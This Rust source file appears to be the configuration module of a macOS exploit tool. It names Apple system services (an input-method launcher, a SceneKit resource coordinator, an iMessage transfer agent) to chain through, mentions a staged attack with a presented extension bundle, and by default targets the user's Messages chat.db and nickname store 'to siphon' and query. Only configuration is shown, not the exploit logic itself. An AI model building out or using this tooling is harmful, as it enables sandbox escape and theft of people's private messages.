//! Run configuration: service identities, directories, and target files.

use std::env;
use std::fmt;
use std::path::{Path, PathBuf};

use crate::descriptor::ExtensionBundle;

/// Opaque name of a privileged coordinator endpoint. Supplied by
/// configuration, never discovered at runtime.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ServiceId(String);

impl ServiceId {
    pub fn new(name: impl Into<String>) -> Self {
        Self(name.into())
    }

    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl fmt::Display for ServiceId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// Well-known coordinator identities.
pub mod services {
    pub const LAUNCH_BROKER: &str = "com.apple.inputmethodkit.launcher";
    pub const RESOURCE_COORDINATOR: &str = "com.apple.SceneKit.C3DColladaResourcesCoordinator";
    pub const TRANSFER_SERVICE: &str = "com.apple.imtransferservices.IMTransferAgent";
}

/// Default location of the non-linkable authorization module.
pub const DEFAULT_AUTHORITY_MODULE: &str = "/usr/lib/system/libsystem_sandbox.dylib";

/// Which read-only query to run against a downloaded artifact.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Extractor {
    Chat,
    Nicknames,
}

/// One protected file to siphon, plus the query to run once it is readable.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Target {
    pub path: PathBuf,
    pub extractor: Extractor,
}

impl Target {
    /// Parses `PATH` or `PATH=chat` / `PATH=nicknames`.
    pub fn parse(spec: &str) -> Result<Self, String> {
        let (path, extractor) = match spec.rsplit_once('=') {
            Some((path, "chat")) => (path, Extractor::Chat),
            Some((path, "nicknames")) => (path, Extractor::Nicknames),
            Some((_, other)) => return Err(format!("unknown extractor `{other}`")),
            None => (spec, Extractor::Chat),
        };
        if path.is_empty() {
            return Err("target path cannot be empty".into());
        }
        Ok(Self {
            path: PathBuf::from(path),
            extractor,
        })
    }
}

#[derive(Debug, Clone)]
pub struct Config {
    /// Directory holding the coordinator sockets, `<service>.sock` each.
    pub socket_dir: PathBuf,
    /// Scratch space for disposable descriptors and staged artifacts.
    pub scratch_dir: PathBuf,
    /// The transfer service's own cache directory; downloads always land
    /// here, because it is the one place both sides can reach.
    pub transfer_cache_dir: PathBuf,
    /// Path of the local authorization module to resolve at startup.
    pub authority_module: PathBuf,
    pub launch_broker: ServiceId,
    pub resource_coordinator: ServiceId,
    pub transfer_service: ServiceId,
    /// Extension-bundle identity Stage A presents to the launch broker.
    pub extension_bundle: ExtensionBundle,
    pub targets: Vec<Target>,
}

impl Config {
    pub fn socket_path(&self, service: &ServiceId) -> PathBuf {
        self.socket_dir.join(format!("{}.sock", service.as_str()))
    }

    /// Cache directory the transfer service writes into, derived the way
    /// the service itself derives it: the parent of the user temp dir.
    pub fn default_transfer_cache_dir() -> PathBuf {
        let tmp = env::temp_dir();
        tmp.parent()
            .map(Path::to_path_buf)
            .unwrap_or(tmp)
            .join(services::TRANSFER_SERVICE)
    }

    /// The usual suspects under the user's message store.
    pub fn default_targets(home: &Path) -> Vec<Target> {
        vec![
            Target {
                path: home.join("Library/Messages/chat.db"),
                extractor: Extractor::Chat,
            },
            Target {
                path: home.join("Library/Messages/NickNameCache/handledNicknamesKeyStore.db"),
                extractor: Extractor::Nicknames,
            },
        ]
    }
}
